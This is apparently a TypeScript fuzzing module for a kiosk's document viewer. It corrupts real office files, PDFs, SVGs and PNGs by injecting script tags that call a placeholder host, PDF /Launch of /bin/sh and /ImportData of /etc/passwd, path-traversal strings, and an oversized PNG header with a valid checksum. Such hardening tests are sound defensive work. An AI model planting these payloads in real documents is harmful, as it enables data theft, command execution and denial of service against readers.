/** Hostile documents of all kinds that the kiosk can show, made from real ones. */
import { unzipSync } from 'fflate';
import { PNG } from 'pngjs';
import { formPdf, linkedPdf, pdfOfPages, scriptedPdf } from '../../sites/pdf-files.ts';
import { statementPdf } from '../../tour/statement-pdf.ts';
import { whole } from '../random.ts';
import { letterDocx, letterOdt, letterRtf, packed, rentOds, rentXlsx } from './office-files.ts';

/** A whole number from 0 to `limit` - 1. */
export type Below = (limit: number) => number;

export const below =
  (random: () => number): Below =>
  (limit) =>
    whole(random, limit);

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="60"><rect width="60" height="60" fill="red"/><text x="5" y="30">Map</text></svg>';
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** Real documents, by the names under which a website serves them. */
const REAL: Readonly<Record<string, () => Buffer>> = {
  'letter.docx': letterDocx,
  'letter.odt': letterOdt,
  'letter.rtf': letterRtf,
  'rent.xlsx': rentXlsx,
  'rota.ods': rentOds,
  'list.csv': () => Buffer.from('Name,Amount\n"Öz, A",5\n'),
  'notes.txt': () => Buffer.from('Dear all'),
  'statement.pdf': statementPdf,
  'form.pdf': formPdf,
  'links.pdf': linkedPdf,
  'scripts.pdf': scriptedPdf,
  'pages.pdf': () => pdfOfPages(12),
  'photo.png': photo,
  'dot.gif': () => GIF,
  'map.svg': () => Buffer.from(SVG),
};

export const REAL_NAMES = Object.keys(REAL);

/** @throws Error if there is no document with this name */
export function realDocument(name: string): Buffer {
  const make = REAL[name];
  if (make === undefined) throw new Error(`there is no document ${name}`);
  return make();
}

function photo(): Buffer {
  const picture = new PNG({ width: 40, height: 30 });
  for (let at = 0; at < picture.data.length; at++) picture.data[at] = (at * 37) % 256;
  return PNG.sync.write(picture);
}

/** Pieces that replace markup or numbers in office documents. */
const ODD = [
  ...[
    '<script>fetch("https://far.test/")</script>',
    '<img src="https://far.test/x.png" onerror="x()"/>',
    '<a href="javascript:x()">',
  ],
  ...[
    '</w:p></w:p>',
    '<w:tbl><w:tr><w:tc>',
    '-1',
    '99999999999',
    'NaN',
    '',
    '&#0;',
    '&far;',
    '\\u-1',
    '{\\pict ',
    ']]>',
    '"',
    '\0',
  ],
  ...[
    '<table:table-cell table:number-columns-repeated="99999999"><text:p>x</text:p></table:table-cell>',
    '../../../../etc/passwd',
  ],
] as const;

/** The same for PDFs: pieces that would run, send or open something, or never end. */
const ODD_PDF = [
  ...['/OpenAction << /S /JavaScript /JS (app.launchURL\\("https://far.test/"\\)) >>', '/AA << /O << /S /Named /N /Print >> >>'],
  ...[
    '/A << /S /URI /URI (https://far.test/) >>',
    '/A << /S /Launch /F (/bin/sh) >>',
    '/A << /S /GoToR /F (https://far.test/a.pdf) >>',
  ],
  ...['/A << /S /SubmitForm /F (https://far.test/sent) >>', '/A << /S /ImportData /F (file:///etc/passwd) >>'],
  ...['/F (https://far.test/x) /FFilter /FlateDecode', '/Kids [2 0 R]', '/Parent 3 0 R', '/Count 99999999', '/Length 99999999'],
  ...[
    '/MediaBox [0 0 1e9 1e9]',
    '/Rotate -45',
    '/Ff 4294967295',
    '/MaxLen -1',
    '/DA (/Helv 1e6 Tf)',
    '/Fields [5 0 R 5 0 R 2 0 R]',
  ],
  ...['/Filter [/FlateDecode /FlateDecode /LZWDecode]', '<< << <<', '[[[[[[', 'endobj', 'stream', '9 0 R', '-0', '(((', '\0'],
] as const;

/** The same for SVG drawings. */
const ODD_SVG = [
  ...['<script>fetch("https://far.test/")</script>', '<image href="https://far.test/x.png" width="9" height="9"/>'],
  ...['<use href="https://far.test/a.svg#a"/>', '<foreignObject><iframe src="https://far.test/"/></foreignObject>'],
  ...[
    '<a href="javascript:x()"><text>x</text></a>',
    '<style>@import url(https://far.test/x.css)</style>',
    '<g id="a"><use href="#a"/></g>',
  ],
  ...[
    '<animate attributeName="href" to="https://far.test/"/>',
    ' onload="fetch(\'https://far.test/\')"',
    ' width="1e30"',
    '&far;',
  ],
] as const;

/** Makes a hostile document from a real one. */
export function hostile(bytes: Buffer, next: Below): Buffer {
  const head = bytes.subarray(0, 8).toString('latin1');
  if (next(3) > 0) {
    if (head.startsWith('PK')) return inside(bytes, next);
    if (head.startsWith('%PDF')) return into(bytes, ODD_PDF, next);
    if (head.startsWith('<svg')) return into(bytes, ODD_SVG, next);
    if (head.startsWith('\x89PNG') && next(2) === 0) return vast(next);
  }
  return outside(bytes, next);
}

/** Changes bytes, and sometimes truncates. */
function outside(bytes: Buffer, next: Below): Buffer {
  const odd = Buffer.from(bytes);
  for (let change = 0; change <= next(8); change++) odd[next(odd.length)] = next(256);
  return next(3) === 0 ? odd.subarray(0, next(odd.length)) : odd;
}

/** Changes parts and zips them correctly, so that the readers of the parts see them. */
function inside(bytes: Buffer, next: Below): Buffer {
  const parts = Object.entries(unzipSync(bytes)).map(([name, part]) => {
    if (next(2) === 0) return [name, part];
    const text = Buffer.from(part).toString('utf8');
    const [at, length] = [next(text.length + 1), next(20)];
    return [name, `${text.slice(0, at)}${ODD[next(ODD.length)]}${text.slice(at + length)}`];
  });
  return packed(Object.fromEntries(parts));
}

/** Inserts pieces, mostly where a new element may begin. */
function into(bytes: Buffer, pieces: readonly string[], next: Below): Buffer {
  let text = bytes.toString('latin1');
  for (let change = 0; change <= next(4); change++) {
    const places = [...text.matchAll(/<<|\/[A-Z]|[<>]/g)].map(({ index }) => index + (next(2) === 0 ? 0 : 2));
    const at = next(5) === 0 ? next(text.length) : (places[next(places.length)] ?? 0);
    text = `${text.slice(0, at)} ${pieces[next(pieces.length)]} ${text.slice(at + next(3))}`;
  }
  return Buffer.from(text, 'latin1');
}

/** A picture of a few bytes that claims to have billions of pixels. */
function vast(next: Below): Buffer {
  const bytes = photo();
  bytes.writeUInt32BE(20_000 + next(2 ** 31 - 20_000), 16);
  bytes.writeUInt32BE(20_000 + next(2 ** 31 - 20_000), 20);
  // The correct checksum, so that the size is accepted.
  bytes.writeUInt32BE(crc(bytes.subarray(12, 29)), 29);
  return bytes;
}

/** CRC-32, as in PNG. */
function crc(bytes: Buffer): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit++) sum = (sum >>> 1) ^ (0xedb88320 & -(sum & 1));
  }
  return (sum ^ 0xffffffff) >>> 0;
}
